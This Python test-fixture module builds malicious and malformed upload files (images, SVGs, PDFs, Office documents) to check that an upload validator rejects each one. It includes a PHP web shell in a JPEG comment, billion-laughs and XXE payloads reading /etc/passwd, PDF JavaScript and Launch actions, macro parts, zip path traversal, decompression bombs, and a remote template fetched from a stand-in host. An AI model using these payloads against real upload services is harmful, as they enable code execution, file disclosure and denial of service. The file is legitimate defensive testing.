"""Files that somebody would like us to keep; each is made here, so that one sees what is wrong with it."""

import io
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
KINDS = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **how: object) -> bytes:
    held = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(held, kind, **how)
    return held.getvalue()


def huge_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few bytes that say they are 3,600 million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def moving_gif() -> bytes:
    held = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(held, "GIF", save_all=True, append_images=frames[1:])
    return held.getvalue()


def photo() -> bytes:
    """A JPEG with the place and the device it was taken with, a comment, and an archive hung on its end."""
    exif = Image.Exif()
    exif[0x010F] = "Máy ảnh của Lan"
    exif.get_ifd(0x8825)[2] = (20.0, 51.0, 40.0)
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif.tobytes(), comment=b"<?php system($_GET[0]); ?>") + zipped({"a.js": b"alert(1)"})


def zipped(parts: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return held.getvalue()


def office(kind: str = "docx", **more: bytes) -> bytes:
    """A small document; `more` are further parts, / written as __ in their names."""
    parts = {"[Content_Types].xml": KINDS, MAIN[kind]: b"<document/>"}
    return zipped(parts | {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()})


def fetching(kind: str) -> bytes:
    link = f'<Relationship Id="a" Type="{RELS}/{kind}" Target="https://xau.example/a.dotm" TargetMode="External"/>'
    return f'<Relationships xmlns="{RELS}">{link}</Relationships>'.encode()


def pdf(action: dict[str, str] | None = None, *, locked: bool = False, inside: bool = False) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    if action:
        made = DictionaryObject(
            {NameObject(k): TextStringObject(v) if k == "/JS" else NameObject(v) for k, v in action.items()}
        )
        page[NameObject("/Annots")] = writer._add_object(
            __import__("pypdf").generic.ArrayObject(
                [
                    DictionaryObject(
                        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): writer._add_object(made)}
                    )
                ]
            )
        )
    if inside:
        writer.add_attachment("a.exe", b"MZ")
    if locked:
        writer.encrypt("mat-khau", algorithm="RC4-128")
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def svg(inside: str, before: str = "", more: str = "") -> bytes:
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<?xml version="1.0"?>{before}<svg {space} width="40" height="30" {more}>{inside}</svg>'.encode()


LAUGHS = (
    "<!DOCTYPE svg [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
    + "]>"
)
READING = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

# (name, content, a part of the sentence that refuses it)
IMAGES = [
    ("bom.png", huge_png(), "more than 50 million pixels"),
    ("hoat-hinh.gif", moving_gif(), "moves"),
    ("trang.png", b"<!doctype html><script>alert(1)</script>", "not a picture"),
    ("chuong-trinh.jpg", b"MZ\x90\x00" + b"\0" * 200, "not a picture"),
    ("sai-duoi.png", picture("JPEG"), "The name says PNG, the content is JPEG"),
    ("nua-chung.jpg", picture("JPEG", (400, 300))[:900], "damaged"),
    ("rong.png", b"", "not a picture"),
    ("tranh.bmp", picture("BMP"), "Files of this kind are not taken"),
    ("cuoi.svg", svg("&j;", LAUGHS), "cannot be read as SVG"),
    ("doc-tep.svg", svg("<text>&x;</text>", READING), "cannot be read as SVG"),
    (
        "trang.svg",
        b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        "cannot be read as SVG",
    ),
    ("lon.svg", svg(" " * (2 * 1024 * 1024)), "too large"),
    ("rat-lon.png", picture() + b"\0" * (10 * 1024 * 1024), "larger than 10 MB"),
]
DOCUMENTS = [
    ("trang.html", b"<html></html>", "Files of this kind are not taken"),
    ("trang.txt", b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>", "a page for browsers"),
    ("bang.csv", "Tên;Đơn vị".encode("utf-16"), "not text in UTF-8"),
    ("nhi-phan.txt", b"5S\x00\x01", "not plain text"),
    ("phu-de.vtt", b"1\n00:00:01,000 --> 00:00:02,000\nChao", "begins with the line WEBVTT"),
    ("rong.txt", b"", "empty"),
    ("chuong-trinh.pdf", b"MZ\x90\x00" + b"\0" * 200, "not a PDF"),
    ("hai-mat.pdf", b"<script>alert(1)</script>" + pdf(), "not a PDF"),
    ("hong.pdf", b"%PDF-1.7\n" + b"rubbish " * 20, "damaged"),
    ("ma.pdf", pdf({"/S": "/JavaScript", "/JS": "app.alert(1)"}), "a script, an action"),
    ("chay.pdf", pdf({"/S": "/Launch", "/F": "/cmd"}), "a script, an action"),
    ("gui.pdf", pdf({"/S": "/SubmitForm"}), "a script, an action"),
    ("trong.pdf", pdf(inside=True), "a script, an action"),
    ("khoa.pdf", pdf(locked=True), "locked"),
    ("macro.docx", office(word__vbaProject_dot_bin=b"x"), "macros or a program"),
    ("doi-ten.docx", zipped({"[Content_Types].xml": KINDS.replace(b"Types xmlns", b"Types a='macroEnabled' xmlns"),
                            "word/document.xml": b"<d/>"}), "macros or a program"),
    ("ole.xlsx", office("xlsx", xl__embeddings__oleObject1_dot_bin=b"x"), "macros or a program"),
    ("khuon.docx", office(word___rels__settings_dot_xml_dot_rels=fetching("attachedTemplate")), "another address"),
    ("bom.docx", office(word__media__a_dot_txt=b"\0" * (301 * 1024 * 1024)), "too large"),
    ("thuc-the.docx", zipped({"[Content_Types].xml": KINDS, "word/document.xml": b"<d/>",
                             "word/_rels/a.rels": (LAUGHS.replace("svg", "r") + "<r>&j;</r>").encode()}), "damaged"),
    ("khac.docx", office("xlsx"), "not a DOCX file"),
    ("tep-nen.docx", zipped({"a.exe": b"MZ"}), "not a DOCX file"),
    ("cu.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "not a DOCX file"),
    ("ra-ngoai.docx", office(**{"..__..__a": b"x"}), "not a DOCX file"),
]  # fmt: skip
